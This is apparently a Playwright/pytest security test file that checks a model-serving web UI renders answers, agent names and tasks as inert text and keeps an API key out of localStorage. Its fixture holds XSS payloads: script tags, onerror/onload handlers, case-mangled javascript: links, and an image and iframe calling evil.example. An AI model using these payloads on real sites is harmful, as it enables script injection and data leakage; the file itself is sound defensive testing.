"""What a model writes stays text, through the path that every answer takes."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import numpy as np
import pytest

pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
pytest.importorskip("fastapi", reason="the extra `server` is not installed")

from playwright.sync_api import Page, expect

from shoal.engine.engine import Engine
from shoal.runners.fake import ByteTokenizer, FakeRunner
from shoal.runners.plan import SeqId, StepOutput, StepPlan, Want
from tests.browser.page import Bench
from tests.support.live import Live

SCRIPT = """<script>window.hacked = 1</script>

<img src="x" onerror="window.hacked = 2"> <svg onload="window.hacked = 3"></svg>

[click](javascript:window.hacked=4) and <a href="javascript:window.hacked=5">this</a> [data](data:text/html,x)

![picture](https://evil.example/?leak) [JaVa](  jAvAsCrIpT:window.hacked=6) <javascript:window.hacked=7>

<style>body { display: none }</style><iframe src="//evil.example"></iframe><form action="/x"><input name="y"></form>

**bold** [fine](https://example.org/a) `<b>code</b>`
"""


class ScriptedRunner(FakeRunner):
    """Writes a given text, whatever it is asked."""

    def __init__(self, text: str, **fields: Any) -> None:
        super().__init__(context_length=8192, max_rows=1, **fields)  # a row a pass: what is drafted gets none
        self._tokens = [*text.encode(), 256]
        self._written: dict[SeqId, int] = {}

    def execute(self, plan: StepPlan) -> StepOutput:
        """The next byte of the text for each row."""
        super().execute(plan)
        rows = []
        for item in plan.sequences:
            if item.want is not Want.NOTHING:
                at = self._written.get(item.seq_id, 0)
                self._written[item.seq_id] = at + 1
                row = np.zeros(self.spec.vocab_size, np.float32)
                row[self._tokens[at]] = 1000.0
                rows.append(row)
                assert item.want is Want.LOGITS
        return StepOutput({}, np.stack(rows) if rows else None)


@pytest.fixture(scope="module")
def hostile() -> Iterator[Live]:
    runner = ScriptedRunner(SCRIPT)
    with Live(Engine(lambda: runner, ByteTokenizer()), name="hostile") as server:
        yield server


def test_scripts_and_links_in_an_answer_stay_text(page: Page, hostile: Live) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    bench = Bench(page, hostile.url).open(maxTokens=1500, synthesis=False, count=2, historyOpen=True)
    question = '<script>window.hacked = 8</script><img src=x onerror="window.hacked=9">'
    bench.ask(question)
    bench.wait_end()
    assert bench.states() == ["done", "done"]
    for _ in range(2):  # as it streamed, and as it comes out of the history
        text = bench.texts()[0]
        assert "<script>window.hacked = 1</script>" in text
        assert '<img src="x" onerror="window.hacked = 2">' in text
        assert "[click](javascript:window.hacked=4)" in text
        assert '<a href="javascript:window.hacked=5">this</a>' in text
        prose = page.locator("#run .prose").first
        assert prose.locator("script, img, svg, style, iframe, form, input").count() == 0
        links = prose.locator("a").evaluate_all("links => links.map((link) => [link.href, link.rel, link.target])")
        assert links == [["https://example.org/a", "noopener noreferrer nofollow", "_blank"]]
        expect(prose.locator("strong")).to_have_text("bold")
        expect(prose.locator("code")).to_have_text("<b>code</b>")
        assert page.evaluate("window.hacked") is None
        page.reload()
        expect(page.locator("#run-title")).to_have_text(question)
        bench.wait_end()
    assert [url for url in asked if not url.startswith(hostile.url)] == []


def test_hostile_names_stay_text(page: Page, hostile: Live) -> None:
    name = "<img src=x onerror=window.hacked=1>"
    team = [{"name": name, "task": "<script>window.hacked=2</script>", "on": True}]
    bench = Bench(page, hostile.url).open(maxTokens=5, team=team, historyOpen=True)
    bench.ask("Hello?")
    bench.wait_end()
    expect(page.locator("#run .card h3").first).to_have_text(name)
    page.locator("#team-open").click()
    expect(page.locator("#team-list textarea")).to_have_value("<script>window.hacked=2</script>")
    assert page.evaluate("window.hacked") is None


def test_a_key_is_asked_for_and_kept_for_the_tab(page: Page) -> None:
    with Live(Engine(lambda: ScriptedRunner("Hello there"), ByteTokenizer()), api_key="secret") as keyed:
        page.goto(keyed.url)
        page.locator("#ask-input").fill("wrong")
        page.locator("#ask-input").press("Enter")
        expect(page.locator("#ask-input")).to_have_value("")
        page.locator("#ask-input").fill("secret")
        page.locator("#ask-input").press("Enter")
        expect(page.locator("#connection-text")).to_have_text("connected")
        bench = Bench(page, keyed.url)
        bench.ask("Who is there?")
        bench.wait_end()
        assert bench.texts()[0] == "Hello there"
        assert "secret" not in str(page.evaluate("JSON.stringify(localStorage)"))
